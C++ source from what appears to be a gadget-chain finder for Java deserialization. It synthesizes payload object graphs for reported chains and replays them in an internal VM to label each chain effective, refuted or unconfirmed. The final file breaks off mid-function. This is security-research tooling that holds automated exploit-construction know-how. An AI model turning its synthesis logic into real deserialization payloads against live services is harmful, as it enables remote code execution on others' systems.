// auto_verify() then executes the synthesized object graph in the
// deserialization VM: chains that fire their sink with a satisfied
// Trigger_Condition are confirmed effective; guarded/sanitised/uncontrollable
// chains are refuted — replacing the paper's manual PoC step entirely.
#pragma once

#include <optional>

#include "cpg/schema.hpp"
#include "finder/finder.hpp"
#include "graph/frozen.hpp"
#include "jir/model.hpp"
#include "runtime/objectgraph.hpp"
#include "runtime/vm.hpp"

namespace tabby::finder {

/// The one graph question payload synthesis asks — "is hop a→b an ALIAS
/// dispatch edge?" — abstracted over the two graph representations, so
/// verification composes with `--frozen`: a chain found over the frozen CSR
/// is verified against that same snapshot, with node ids meaning the same
/// thing on both sides.
class AliasView {
 public:
  explicit AliasView(const graph::GraphDb& db) : db_(&db) {}
  explicit AliasView(const graph::FrozenGraph& frozen)
      : frozen_(&frozen), alias_type_(frozen.edge_type_id(cpg::kAliasEdge)) {}

  bool alias(graph::NodeId from, graph::NodeId to) const;

 private:
  const graph::GraphDb* db_ = nullptr;
  const graph::FrozenGraph* frozen_ = nullptr;
  std::optional<std::uint16_t> alias_type_;
};

struct PayloadResult {
  runtime::ObjectGraphSpec recipe;
  /// Human-readable caveats (untraceable receivers, static segments, ...).
  std::vector<std::string> notes;
  /// False when some hop could not be wired; the recipe is still returned
  /// as a best effort.
  bool complete = true;
};

PayloadResult synthesize_payload(const jir::Program& program, const AliasView& aliases,
                                 const GadgetChain& chain);
PayloadResult synthesize_payload(const jir::Program& program, const graph::GraphDb& cpg,
                                 const GadgetChain& chain);

struct AutoVerifyResult {
  bool effective = false;
  PayloadResult payload;
  runtime::ExecutionResult execution;
};

/// Synthesize a payload for the chain and execute it. `effective` means the
/// chain's sink fired with its Trigger_Condition satisfied. `vm_options`
/// carries the per-chain step/depth/allocation/wall-clock budgets.
AutoVerifyResult auto_verify(const jir::Program& program, const AliasView& aliases,
                             const GadgetChain& chain, const runtime::VmOptions& vm_options = {});
AutoVerifyResult auto_verify(const jir::Program& program, const graph::GraphDb& cpg,
                             const GadgetChain& chain);

}  // namespace tabby::finder
