// Automatic payload generation and chain confirmation — the paper's §V-C
// future work ("Tabby cannot automatically generate malicious input payloads
// based on the identified gadget chains to confirm that the chains can
// definitely be triggered... we expect to leverage javassist ... to
// automatically check whether the gadget chain is correct").
//
// synthesize_payload() walks a reported chain through the CPG and the IR:
// at every CALL hop it locates the call site, traces the receiver back to a
// field of the current carrier object, and wires an instance of the next
// hop's dynamic class (looking through ALIAS dispatch hops) into that field.
// Sink arguments traced to fields are filled with tainted marker values.
// auto_verify() then executes the synthesized object graph in the
// deserialization VM: chains that fire their sink with a satisfied
// Trigger_Condition are confirmed effective; guarded/sanitised/uncontrollable
// chains are refuted — replacing the paper's manual PoC step entirely.
#pragma once

#include "finder/finder.hpp"
#include "jir/model.hpp"
#include "runtime/objectgraph.hpp"
#include "runtime/vm.hpp"

namespace tabby::finder {

struct PayloadResult {
  runtime::ObjectGraphSpec recipe;
  /// Human-readable caveats (untraceable receivers, static segments, ...).
  std::vector<std::string> notes;
  /// False when some hop could not be wired; the recipe is still returned
  /// as a best effort.
  bool complete = true;
};

PayloadResult synthesize_payload(const jir::Program& program, const graph::GraphDb& cpg,
                                 const GadgetChain& chain);

struct AutoVerifyResult {
  bool effective = false;
  PayloadResult payload;
  runtime::ExecutionResult execution;
};

/// Synthesize a payload for the chain and execute it. `effective` means the
/// chain's sink fired with its Trigger_Condition satisfied.
AutoVerifyResult auto_verify(const jir::Program& program, const graph::GraphDb& cpg,
                             const GadgetChain& chain);

}  // namespace tabby::finder
