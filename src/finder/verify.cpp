#include "finder/verify.hpp"

#include <cerrno>
#include <cstdlib>
#include <utility>

#include "obs/obs.hpp"
#include "serve/json.hpp"
#include "util/digest.hpp"
#include "util/failpoint.hpp"
#include "util/thread_pool.hpp"

namespace tabby::finder {

namespace {

/// Nominal live working set of one verification shard (frames, locals, the
/// synthesized recipe) mirrored into the telemetry ledger while it runs.
constexpr std::size_t kShardWorkingSetBytes = 64 * 1024;

/// Strict decimal u64 parse for the verdict wire codec (counters travel as
/// strings — the wire format's numbers are doubles).
bool parse_u64(const std::string& text, std::uint64_t& out) {
  if (text.empty()) return false;
  errno = 0;
  char* end = nullptr;
  out = std::strtoull(text.c_str(), &end, 10);
  return errno == 0 && end != nullptr && *end == '\0';
}

const char* reason_tag(UnconfirmedReason reason) {
  switch (reason) {
    case UnconfirmedReason::Budget: return "budget";
    case UnconfirmedReason::Timeout: return "timeout";
    case UnconfirmedReason::Crash: return "crash";
    case UnconfirmedReason::Fault: return "fault";
    case UnconfirmedReason::None: break;
  }
  return "none";
}

/// Map one executed AutoVerifyResult onto the verdict taxonomy. Modeled
/// Java-level faults and setup failures are concrete negative evidence
/// (REFUTED); budget/deadline/infrastructure faults mean the VM could not
/// decide (UNCONFIRMED with the matching reason).
ChainVerdict classify(const AutoVerifyResult& result) {
  ChainVerdict v;
  v.steps = result.execution.steps;
  if (result.effective) {
    v.verdict = Verdict::Effective;
    v.reason = UnconfirmedReason::None;
    return v;
  }
  switch (result.execution.fault_kind) {
    case runtime::FaultKind::Budget:
      v.verdict = Verdict::Unconfirmed;
      v.reason = UnconfirmedReason::Budget;
      v.detail = result.execution.fault;
      break;
    case runtime::FaultKind::Timeout:
      v.verdict = Verdict::Unconfirmed;
      v.reason = UnconfirmedReason::Timeout;
      v.detail = result.execution.fault;
      break;
    case runtime::FaultKind::Fault:
      v.verdict = Verdict::Unconfirmed;
      v.reason = UnconfirmedReason::Fault;
      v.detail = result.execution.fault;
      break;
    case runtime::FaultKind::None:
    case runtime::FaultKind::Modeled:
    case runtime::FaultKind::Setup:
      v.verdict = Verdict::Refuted;
      v.reason = UnconfirmedReason::None;
      v.detail = result.execution.fault;
      break;
  }
  return v;
}

/// Dist wire codec for one shard's verdict, a single JSON line.
std::string encode_verdict(const ChainVerdict& verdict) {
  serve::Json doc = serve::Json::object();
  doc.set("verdict", std::string(to_string(verdict.verdict)));
  doc.set("reason", std::string(reason_tag(verdict.reason)));
  doc.set("detail", verdict.detail);
  doc.set("steps", std::to_string(static_cast<std::uint64_t>(verdict.steps)));
  return doc.dump();
}

bool decode_verdict(const std::string& payload, ChainVerdict& out) {
  auto doc = serve::Json::parse(payload);
  if (!doc || !doc->is_object()) return false;
  ChainVerdict v;
  std::string verdict = doc->str("verdict");
  if (verdict == "EFFECTIVE") {
    v.verdict = Verdict::Effective;
  } else if (verdict == "REFUTED") {
    v.verdict = Verdict::Refuted;
  } else if (verdict == "UNCONFIRMED") {
    v.verdict = Verdict::Unconfirmed;
  } else {
    return false;
  }
  std::string reason = doc->str("reason");
  if (reason == "none") {
    v.reason = UnconfirmedReason::None;
  } else if (reason == "budget") {
    v.reason = UnconfirmedReason::Budget;
  } else if (reason == "timeout") {
    v.reason = UnconfirmedReason::Timeout;
  } else if (reason == "crash") {
    v.reason = UnconfirmedReason::Crash;
  } else if (reason == "fault") {
    v.reason = UnconfirmedReason::Fault;
  } else {
    return false;
  }
  v.detail = doc->str("detail");
  std::uint64_t steps = 0;
  if (!parse_u64(doc->str("steps"), steps)) return false;
  v.steps = steps;
  out = std::move(v);
  return true;
}

/// A retry-exhausted dist shard: the coordinator's rendered error decides
/// between a hang (timeout) and a crash demotion.
ChainVerdict worker_failure_verdict(const std::string& error) {
  ChainVerdict v;
  v.verdict = Verdict::Unconfirmed;
  bool hang = error.find("hung") != std::string::npos ||
              error.find("deadline exceeded") != std::string::npos;
  v.reason = hang ? UnconfirmedReason::Timeout : UnconfirmedReason::Crash;
  v.detail = error.empty() ? "verification worker failed" : error;
  return v;
}

}  // namespace

const char* to_string(Verdict verdict) {
  switch (verdict) {
    case Verdict::Effective: return "EFFECTIVE";
    case Verdict::Refuted: return "REFUTED";
    case Verdict::Unconfirmed: break;
  }
  return "UNCONFIRMED";
}

const char* to_string(UnconfirmedReason reason) { return reason_tag(reason); }

std::string verdict_line(const ChainVerdict& verdict) {
  std::string line = to_string(verdict.verdict);
  if (verdict.verdict == Verdict::Unconfirmed) {
    line += "(";
    line += reason_tag(verdict.reason);
    line += ")";
  }
  return line;
}

std::string degraded_line(const GadgetChain& chain, const ChainVerdict& verdict) {
  std::string line = "degraded: [verify-";
  line += reason_tag(verdict.reason);
  line += "] ";
  line += chain.source_signature();
  line += " -> ";
  line += chain.sink_signature();
  line += ": ";
  line += verdict.detail.empty() ? "verification did not complete" : verdict.detail;
  line += "; chain kept as UNCONFIRMED";
  return line;
}

std::uint64_t verdict_key(std::uint64_t fingerprint, const GadgetChain& chain) {
  util::Fnv1a h;
  h.update("tabby-verdict-key-v1");
  h.update_u64(fingerprint);
  h.update_sized(chain.key());
  h.update_sized(chain.sink_type);
  return h.digest();
}

std::uint64_t verify_options_fingerprint(const VerifyOptions& options) {
  util::Fnv1a h;
  h.update("tabby-verify-options-v1");
  h.update_u64(static_cast<std::uint64_t>(options.max_steps_per_chain));
  h.update_u64(static_cast<std::uint64_t>(options.max_call_depth));
  return h.digest();
}

VerifyReport verify_chains(const jir::Program& program, const AliasView& aliases,
                           const std::vector<GadgetChain>& chains, const VerifyOptions& options) {
  obs::Span span("runtime.verify");
  if (span.active()) span.attr("chains", std::to_string(chains.size()));

  VerifyReport report;
  report.verdicts.resize(chains.size());
  if (chains.empty()) return report;

  const bool cached = options.cache_fingerprint != 0 && options.cache_load != nullptr;

  // Cache probe, serial in chain order: hits keep their recorded verdicts;
  // misses queue for execution.
  std::vector<std::size_t> todo;
  todo.reserve(chains.size());
  for (std::size_t i = 0; i < chains.size(); ++i) {
    if (cached) {
      if (auto hit = options.cache_load(verdict_key(options.cache_fingerprint, chains[i]))) {
        report.verdicts[i] = std::move(*hit);
        report.verdicts[i].from_cache = true;
        ++report.cache_hits;
        continue;
      }
    }
    todo.push_back(i);
  }

  // Re-validate one chain under its own VM budgets. Runs on a pool thread
  // (in-process mode) or inside a forked verifier (--verify-workers).
  auto run_one = [&](std::size_t chain_index) -> ChainVerdict {
    if (options.deadline.expired()) {
      ChainVerdict v;
      v.verdict = Verdict::Unconfirmed;
      v.reason = UnconfirmedReason::Timeout;
      v.detail = "verify deadline expired before the chain ran";
      return v;
    }
    util::ScopedCharge charge(options.memory, kShardWorkingSetBytes);
    runtime::VmOptions vm;
    vm.max_steps = options.max_steps_per_chain;
    vm.max_call_depth = options.max_call_depth;
    vm.deadline = options.deadline;
    return classify(auto_verify(program, aliases, chains[chain_index], vm));
  };

  if (!todo.empty() && options.dist.workers > 0) {
    // Crash-isolated mode: every chain is a shard in the supervised forked
    // pool. The coordinator injects chaos through the runtime.verify.*
    // failpoints (substituted below so `site*N` budgets target this stage,
    // not the finder), absorbs crashes/hangs under the retry budget, and a
    // shard that exhausts retries comes back as a failure we demote — the
    // coordinator never dies with a worker.
    dist::DistOptions dopts = options.dist;
    dopts.crash_failpoint = "runtime.verify.crash";
    dopts.hang_failpoint = "runtime.verify.hang";
    dist::DistReport dist_report = dist::run_shards(
        todo.size(), [&](std::size_t shard) { return encode_verdict(run_one(todo[shard])); },
        dopts);
    report.dist_stats = dist_report.stats;
    for (std::size_t s = 0; s < todo.size(); ++s) {
      dist::ShardResult& shard = dist_report.shards[s];
      ChainVerdict v;
      if (shard.ok && decode_verdict(shard.payload, v)) {
        report.verdicts[todo[s]] = std::move(v);
      } else {
        report.verdicts[todo[s]] = worker_failure_verdict(
            shard.ok ? "shard payload decode failed" : shard.error);
      }
    }
  } else if (!todo.empty()) {
    // In-process mode: per-chain shards on the executor, written straight
    // into their slots (deterministic merge by construction). Chaos is
    // decided serially in ascending chain order BEFORE the parallel loop so
    // `site*N` budgets land on the same chains at any --jobs count.
    enum : std::uint8_t { kNone = 0, kCrash = 1, kHang = 2 };
    std::vector<std::uint8_t> chaos(todo.size(), kNone);
    for (std::size_t s = 0; s < todo.size(); ++s) {
      if (util::failpoint::poll("runtime.verify.crash")) {
        chaos[s] = kCrash;
      } else if (util::failpoint::poll("runtime.verify.hang")) {
        chaos[s] = kHang;
      }
    }
    util::run_indexed(options.executor, todo.size(), [&](std::size_t s) {
      ChainVerdict v;
      if (chaos[s] == kCrash) {
        v = worker_failure_verdict("verifier crashed (failpoint runtime.verify.crash)");
      } else if (chaos[s] == kHang) {
        v = worker_failure_verdict("verifier hung (failpoint runtime.verify.hang)");
      } else {
        try {
          v = run_one(todo[s]);
        } catch (const std::exception& e) {
          v.verdict = Verdict::Unconfirmed;
          v.reason = UnconfirmedReason::Fault;
          v.detail = std::string("verifier fault: ") + e.what();
        } catch (...) {
          v.verdict = Verdict::Unconfirmed;
          v.reason = UnconfirmedReason::Fault;
          v.detail = "verifier fault: unknown exception";
        }
      }
      report.verdicts[todo[s]] = std::move(v);
    });
  }

  // Publish freshly-computed deterministic verdicts (transient outcomes —
  // timeouts, crashes, injected faults — are never cached).
  if (options.cache_fingerprint != 0 && options.cache_store != nullptr) {
    for (std::size_t i : todo) {
      const ChainVerdict& v = report.verdicts[i];
      if (v.verdict == Verdict::Unconfirmed && v.reason != UnconfirmedReason::Budget) continue;
      options.cache_store(verdict_key(options.cache_fingerprint, chains[i]), v);
    }
  }

  for (const ChainVerdict& v : report.verdicts) {
    report.steps_total += v.steps;
    switch (v.verdict) {
      case Verdict::Effective: ++report.effective; break;
      case Verdict::Refuted: ++report.refuted; break;
      case Verdict::Unconfirmed: ++report.unconfirmed; break;
    }
  }

  // Counters are only bumped when non-zero so non-verify runs keep their
  // historical --metrics bytes.
  obs::counter_add("runtime.chains_verified", chains.size());
  if (report.effective > 0) obs::counter_add("runtime.verify_effective", report.effective);
  if (report.refuted > 0) obs::counter_add("runtime.verify_refuted", report.refuted);
  if (report.unconfirmed > 0) obs::counter_add("runtime.verify_unconfirmed", report.unconfirmed);
  if (report.cache_hits > 0) obs::counter_add("runtime.verify_cache_hits", report.cache_hits);
  if (report.steps_total > 0) obs::counter_add("runtime.vm_steps", report.steps_total);
  if (span.active()) {
    span.attr("effective", std::to_string(report.effective));
    span.attr("unconfirmed", std::to_string(report.unconfirmed));
  }
  return report;
}

}  // namespace tabby::finder
