// Supervised runtime re-validation — the verify post-pass. Statically-found
// chains are replayed in the src/runtime mini-VM (the dynamic-confirmation
// step GCMiner/ODDFuzz argue cuts residual false positives from conditional
// guards), as parallel per-chain shards with per-chain step/wall-clock
// budgets, and — under `--verify-workers N` — inside the src/dist
// fork/socketpair supervision so a VM crash or hang on one chain demotes
// that chain instead of killing the coordinator.
//
// The boolean verdict becomes a structured taxonomy:
//   EFFECTIVE            the sink fired with its Trigger_Condition satisfied
//   REFUTED              concrete negative evidence (guard not taken, NPE,
//                        exception, or the chain cannot even be instantiated)
//   UNCONFIRMED(reason)  the VM could not decide: budget | timeout | crash |
//                        fault — the chain is KEPT, never silently dropped,
//                        and the run degrades (exit 3; --strict: 1).
// Verdicts are merged in chain order, so output is byte-identical at any
// --jobs / --verify-workers count.
#pragma once

#include <cstdint>
#include <functional>
#include <optional>
#include <string>
#include <vector>

#include "dist/dist.hpp"
#include "finder/finder.hpp"
#include "finder/payload.hpp"
#include "util/deadline.hpp"
#include "util/memory_budget.hpp"

namespace tabby::util {
class Executor;
}

namespace tabby::finder {

enum class Verdict : std::uint8_t { Effective, Refuted, Unconfirmed };

/// Why an Unconfirmed chain could not be decided (None for the other two
/// verdicts). The machine-readable reason demanded by the exit-code contract.
enum class UnconfirmedReason : std::uint8_t { None, Budget, Timeout, Crash, Fault };

const char* to_string(Verdict verdict);
const char* to_string(UnconfirmedReason reason);

struct ChainVerdict {
  Verdict verdict = Verdict::Unconfirmed;
  UnconfirmedReason reason = UnconfirmedReason::Fault;
  /// Human-readable detail: the VM fault string, a synthesis caveat, or the
  /// dist coordinator's rendered worker error. Empty for clean verdicts.
  std::string detail;
  /// VM steps the re-validation consumed (0 when the shard never ran).
  std::size_t steps = 0;
  /// True when the verdict was answered from the verdict cache.
  bool from_cache = false;
};

/// "EFFECTIVE" / "REFUTED" / "UNCONFIRMED(budget)" — the single rendering
/// shared by the CLI and the serve daemon.
std::string verdict_line(const ChainVerdict& verdict);

/// The canonical degraded-mode line for one unconfirmed chain, a sibling of
/// degraded_line(PartialSink):
///   "degraded: [verify-crash] <source> -> <sink>: <detail>; chain kept as
///    UNCONFIRMED"
std::string degraded_line(const GadgetChain& chain, const ChainVerdict& verdict);

struct VerifyOptions {
  /// Per-chain VM budgets (each shard gets its own, so one adversarial chain
  /// cannot starve the rest).
  std::size_t max_steps_per_chain = 200'000;
  std::size_t max_call_depth = 128;
  /// Whole-stage wall-clock budget; chains not started before expiry become
  /// UNCONFIRMED(timeout) without executing.
  util::Deadline deadline;
  /// In-process parallelism (verify_workers == 0): per-chain shards on this
  /// executor, merged in chain order. Borrowed, may be null (serial).
  util::Executor* executor = nullptr;
  /// Optional process-wide ledger charged with per-shard VM budgets
  /// (telemetry only). Borrowed, may be null.
  util::MemoryBudget* memory = nullptr;
  /// Crash isolation: dist.workers > 0 forks a supervised verifier pool and
  /// runs every chain in a worker process (heartbeats, hang-kill, bounded
  /// retry with deterministic backoff — the src/dist contract).
  dist::DistOptions dist;
  /// Verdict-cache hooks, wired by the pipeline layer (the finder does not
  /// link src/cache). load returns the cached verdict or nullopt; store is
  /// best-effort. Only deterministic verdicts (EFFECTIVE / REFUTED /
  /// UNCONFIRMED(budget)) are ever stored — transient outcomes are not.
  std::function<std::optional<ChainVerdict>(std::uint64_t key)> cache_load;
  std::function<void(std::uint64_t key, const ChainVerdict&)> cache_store;
  /// Folded into every cache key; 0 disables the cache entirely.
  std::uint64_t cache_fingerprint = 0;
};

struct VerifyReport {
  /// One verdict per input chain, same order — the merge is deterministic by
  /// construction, so bytes match at any worker/job count.
  std::vector<ChainVerdict> verdicts;
  std::size_t effective = 0;
  std::size_t refuted = 0;
  std::size_t unconfirmed = 0;
  /// Total VM steps across all shards (cache hits contribute their recorded
  /// cost).
  std::size_t steps_total = 0;
  std::size_t cache_hits = 0;
  /// Supervision telemetry (all zero outside --verify-workers mode).
  dist::DistStats dist_stats;

  /// Any chain left undecided degrades the run.
  bool degraded() const { return unconfirmed > 0; }
};

/// Cache key for one chain's verdict: options fingerprint × chain identity.
std::uint64_t verdict_key(std::uint64_t fingerprint, const GadgetChain& chain);

/// The verdict-relevant options fingerprint (budgets that change the verdict;
/// wall-clock settings deliberately excluded — timeouts are never cached).
std::uint64_t verify_options_fingerprint(const VerifyOptions& options);

/// Re-validate every chain; verdicts come back parallel to `chains`.
VerifyReport verify_chains(const jir::Program& program, const AliasView& aliases,
                           const std::vector<GadgetChain>& chains, const VerifyOptions& options);

}  // namespace tabby::finder
