#include "finder/payload.hpp"

#include "cpg/schema.hpp"
#include "jir/hierarchy.hpp"
#include "util/strings.hpp"

namespace tabby::finder {

namespace {

using runtime::ObjectGraphSpec;
using runtime::ObjectSpec;
using runtime::Ref;

/// "owner#name/nargs" -> components.
struct Sig {
  std::string owner;
  std::string name;
  int nargs = 0;
};

Sig parse_sig(const std::string& text) {
  Sig sig;
  std::size_t hash = text.find('#');
  std::size_t slash = text.rfind('/');
  if (hash == std::string::npos || slash == std::string::npos || slash < hash) return sig;
  sig.owner = text.substr(0, hash);
  sig.name = text.substr(hash + 1, slash - hash - 1);
  sig.nargs = std::atoi(text.c_str() + slash + 1);
  return sig;
}

/// Where a variable's value comes from, one level deep in one method body.
struct Trace {
  enum class Kind { Unknown, This, ThisField, ObjField, Param, ThroughCall };
  Kind kind = Kind::Unknown;
  std::string field;                      // ThisField / ObjField
  std::string base;                       // ObjField: the base variable
  int param = 0;                          // Param, 1-based
  const jir::InvokeStmt* call = nullptr;  // ThroughCall
};

Trace trace_var(const jir::Method& method, std::size_t stmt_index, const std::string& var) {
  Trace trace;
  if (var == jir::kThisVar) {
    trace.kind = Trace::Kind::This;
    return trace;
  }
  if (util::starts_with(var, "@p")) {
    trace.kind = Trace::Kind::Param;
    trace.param = std::atoi(var.c_str() + 2);
    return trace;
  }
  for (std::size_t i = stmt_index; i-- > 0;) {
    const jir::Stmt& stmt = method.body[i];
    if (const auto* load = std::get_if<jir::FieldLoadStmt>(&stmt)) {
      if (load->target != var) continue;
      if (load->base == jir::kThisVar) {
        trace.kind = Trace::Kind::ThisField;
        trace.field = load->field;
      } else {
        trace.kind = Trace::Kind::ObjField;
        trace.base = load->base;
        trace.field = load->field;
      }
      return trace;
    }
    if (const auto* assign = std::get_if<jir::AssignStmt>(&stmt)) {
      if (assign->target != var) continue;
      return trace_var(method, i, assign->source);
    }
    if (const auto* cast = std::get_if<jir::CastStmt>(&stmt)) {
      if (cast->target != var) continue;
      return trace_var(method, i, cast->source);
    }
    if (const auto* inv = std::get_if<jir::InvokeStmt>(&stmt)) {
      if (inv->target != var) continue;
      trace.kind = Trace::Kind::ThroughCall;
      trace.call = inv;
      return trace;
    }
    if (const auto* c = std::get_if<jir::ConstStmt>(&stmt)) {
      if (c->target == var) return trace;  // constant: not attacker data
    }
    if (const auto* n = std::get_if<jir::NewStmt>(&stmt)) {
      if (n->target == var) return trace;  // fresh object: not attacker data
    }
  }
  return trace;
}

class Synthesizer {
 public:
  Synthesizer(const jir::Program& program, const AliasView& aliases, const GadgetChain& chain)
      : program_(program), aliases_(aliases), chain_(chain) {}

  PayloadResult run() {
    if (chain_.signatures.size() < 2) {
      note_incomplete("chain too short");
      return std::move(result_);
    }

    Sig source = parse_sig(chain_.signatures.front());
    std::string root = new_object(source.owner);
    result_.recipe.root = root;

    // Frame 0: the source method executing on the root object.
    if (!push_frame(source, root)) return std::move(result_);

    std::size_t i = 0;
    while (i + 1 < chain_.signatures.size()) {
      // Dispatch group: declared callee at i+1, then ALIAS hops to the
      // override that actually runs.
      std::size_t declared_index = i + 1;
      std::size_t impl_index = declared_index;
      while (impl_index + 1 < chain_.signatures.size() &&
             is_alias_hop(impl_index, impl_index + 1)) {
        ++impl_index;
      }
      Sig declared = parse_sig(chain_.signatures[declared_index]);
      Sig impl = parse_sig(chain_.signatures[impl_index]);
      bool is_last_hop = impl_index + 1 >= chain_.signatures.size();

      if (!wire_hop(declared, impl, is_last_hop)) break;
      i = impl_index;
    }
    return std::move(result_);
  }

 private:
  struct Frame {
    Sig method_sig;
    const jir::Method* method = nullptr;
    std::string carrier;                    // object spec key of `this`
    const jir::InvokeStmt* site = nullptr;  // call made FROM this frame
    std::size_t site_index = 0;
  };

  bool is_alias_hop(std::size_t a, std::size_t b) const {
    if (b >= chain_.nodes.size()) return false;
    return aliases_.alias(chain_.nodes[b], chain_.nodes[a]);
  }

  std::string new_object(const std::string& class_name) {
    std::string key = "o" + std::to_string(counter_++);
    result_.recipe.objects[key] = ObjectSpec{class_name, {}, {}};
    return key;
  }

  void note_incomplete(std::string message) {
    result_.complete = false;
    result_.notes.push_back(std::move(message));
  }

  bool push_frame(const Sig& sig, std::string carrier) {
    auto id = program_.find_method(sig.owner, sig.name, sig.nargs);
    if (!id) {
      note_incomplete("cannot locate method body for " + sig.owner + "#" + sig.name);
      return false;
    }
    Frame frame;
    frame.method_sig = sig;
    frame.method = &program_.method(*id);
    frame.carrier = std::move(carrier);
    frames_.push_back(std::move(frame));
    return true;
  }

  /// Resolve a variable in frame `depth` to the (carrier, field) it flows
  /// from, walking Param traces into the caller frame.
  struct FieldSlot {
    std::string carrier;
    std::string field;
    std::string carrier_class;
  };
  std::optional<FieldSlot> resolve_to_field(std::size_t depth, std::size_t stmt_index,
                                            const std::string& var) {
    const Frame& frame = frames_[depth];
    Trace trace = trace_var(*frame.method, stmt_index, var);
    switch (trace.kind) {
      case Trace::Kind::ThisField:
        return FieldSlot{frame.carrier, trace.field,
                         result_.recipe.objects.at(frame.carrier).class_name};
      case Trace::Kind::ObjField: {
        auto base = resolve_to_object(depth, stmt_index, trace.base);
        if (!base) return std::nullopt;
        return FieldSlot{*base, trace.field, result_.recipe.objects.at(*base).class_name};
      }
      case Trace::Kind::Param: {
        if (depth == 0) return std::nullopt;  // attacker-controlled entry arg
        const Frame& caller = frames_[depth - 1];
        if (caller.site == nullptr || trace.param < 1 ||
            trace.param > static_cast<int>(caller.site->args.size())) {
          return std::nullopt;
        }
        return resolve_to_field(depth - 1, caller.site_index,
                                caller.site->args[static_cast<std::size_t>(trace.param - 1)]);
      }
      case Trace::Kind::ThroughCall:
        if (trace.call != nullptr && !trace.call->base.empty()) {
          // Taint typically flows through the receiver (x.toString()).
          return resolve_to_field(depth, stmt_index, trace.call->base);
        }
        return std::nullopt;
      default:
        return std::nullopt;
    }
  }

  /// Resolve a variable to the recipe object it denotes, materialising
  /// intermediate objects from declared field types when necessary.
  std::optional<std::string> resolve_to_object(std::size_t depth, std::size_t stmt_index,
                                               const std::string& var) {
    const Frame& frame = frames_[depth];
    Trace trace = trace_var(*frame.method, stmt_index, var);
    switch (trace.kind) {
      case Trace::Kind::This:
        return frame.carrier;
      case Trace::Kind::Param: {
        if (depth == 0) return std::nullopt;
        const Frame& caller = frames_[depth - 1];
        if (caller.site == nullptr || trace.param < 1 ||
            trace.param > static_cast<int>(caller.site->args.size())) {
          return std::nullopt;
        }
        return resolve_to_object(depth - 1, caller.site_index,
                                 caller.site->args[static_cast<std::size_t>(trace.param - 1)]);
      }
      case Trace::Kind::ThisField:
      case Trace::Kind::ObjField: {
        auto slot = resolve_to_field(depth, stmt_index, var);
        if (!slot) return std::nullopt;
        ObjectSpec& holder = result_.recipe.objects.at(slot->carrier);
        if (const auto* existing = std::get_if<Ref>(&holder.fields[slot->field])) {
          return existing->name;
        }
        // Materialise from the declared field type.
        const jir::ClassDecl* decl = program_.find_class(slot->carrier_class);
        const jir::Field* field = decl != nullptr ? decl->find_field(slot->field) : nullptr;
        std::string cls = field != nullptr ? field->type.name : std::string(jir::kObjectClass);
        std::string key = new_object(cls);
        holder.fields[slot->field] = Ref{key};
        return key;
      }
      default:
        return std::nullopt;
    }
  }

  bool wire_hop(const Sig& declared, const Sig& impl, bool is_last_hop) {
    Frame& frame = frames_.back();

    // Locate the call site of the declared target in the current frame.
    frame.site = nullptr;
    for (std::size_t s = 0; s < frame.method->body.size(); ++s) {
      const auto* inv = std::get_if<jir::InvokeStmt>(&frame.method->body[s]);
      if (inv == nullptr) continue;
      if (inv->callee.name == declared.name && inv->callee.nargs == declared.nargs) {
        frame.site = inv;
        frame.site_index = s;
        break;
      }
    }
    if (frame.site == nullptr) {
      note_incomplete("no call site for " + declared.name + " in " + frame.method_sig.owner +
                      "#" + frame.method_sig.name);
      return false;
    }

    if (is_last_hop) {
      fill_sink_payloads(frames_.size() - 1);
      return true;
    }

    if (frame.site->kind == jir::InvokeKind::Static) {
      // Static segment: no receiver to wire; arguments traced to fields get
      // payloads and the next frame executes carrier-less (self-traces in it
      // will fail gracefully).
      for (const std::string& arg : frame.site->args) {
        payload_field(frames_.size() - 1, frame.site_index, arg);
      }
      return push_frame(impl, frame.carrier);
    }

    // Resolve the receiver to a field slot (possibly in an outer frame) and
    // wire an instance of the override's class into it.
    Trace receiver = trace_var(*frame.method, frame.site_index, frame.site->base);
    std::string next_carrier;
    if (receiver.kind == Trace::Kind::This) {
      next_carrier = frame.carrier;  // self-call
    } else {
      auto slot = resolve_to_field(frames_.size() - 1, frame.site_index, frame.site->base);
      if (!slot) {
        note_incomplete("receiver of " + declared.name + " not traceable to a field");
        return false;
      }
      ObjectSpec& holder = result_.recipe.objects.at(slot->carrier);
      if (const auto* existing = std::get_if<Ref>(&holder.fields[slot->field])) {
        next_carrier = existing->name;  // already wired by an earlier hop
        // Refine the dynamic class if this hop demands a subclass.
        result_.recipe.objects.at(next_carrier).class_name = impl.owner;
      } else {
        next_carrier = new_object(impl.owner);
        holder.fields[slot->field] = Ref{next_carrier};
      }
    }
    return push_frame(impl, next_carrier);
  }

  void fill_sink_payloads(std::size_t depth) {
    const Frame& frame = frames_[depth];
    if (!frame.site->base.empty()) {
      payload_field(depth, frame.site_index, frame.site->base);
    }
    for (const std::string& arg : frame.site->args) {
      payload_field(depth, frame.site_index, arg);
    }
  }

  /// Give the field a variable flows from an attacker-shaped value based on
  /// its declared type. Looks one level through calls (payloading the inner
  /// receiver and arguments).
  void payload_field(std::size_t depth, std::size_t stmt_index, const std::string& var) {
    const Frame& frame = frames_[depth];
    Trace trace = trace_var(*frame.method, stmt_index, var);
    if (trace.kind == Trace::Kind::ThroughCall && trace.call != nullptr) {
      if (!trace.call->base.empty()) payload_field(depth, stmt_index, trace.call->base);
      for (const std::string& inner : trace.call->args) {
        payload_field(depth, stmt_index, inner);
      }
      return;
    }
    auto slot = resolve_to_field(depth, stmt_index, var);
    if (!slot) return;

    ObjectSpec& spec = result_.recipe.objects.at(slot->carrier);
    if (spec.fields.count(slot->field) != 0) return;  // already wired

    const jir::ClassDecl* decl = program_.find_class(slot->carrier_class);
    const jir::Field* field = decl != nullptr ? decl->find_field(slot->field) : nullptr;
    if (field == nullptr) {
      spec.fields[slot->field] = std::string("tabby-payload");
      return;
    }
    if (field->type.is_array()) {
      std::string aux = new_object(field->type.to_string());
      result_.recipe.objects.at(aux).elements.push_back(std::string("tabby-payload-element"));
      spec.fields[slot->field] = Ref{aux};
    } else if (field->type.name == jir::kStringClass) {
      spec.fields[slot->field] = std::string("tabby-payload");
    } else if (field->type.is_primitive()) {
      // Guard constants are unknowable statically; the default value stands
      // and guard-gated chains are refuted — the honest outcome.
      result_.notes.push_back("primitive field " + slot->field + " left at default");
    } else {
      spec.fields[slot->field] = Ref{new_object(field->type.name)};
    }
  }

  const jir::Program& program_;
  const AliasView& aliases_;
  const GadgetChain& chain_;
  PayloadResult result_;
  std::vector<Frame> frames_;
  int counter_ = 0;
};

}  // namespace

bool AliasView::alias(graph::NodeId from, graph::NodeId to) const {
  if (db_ != nullptr) return db_->find_edge(from, to, cpg::kAliasEdge).has_value();
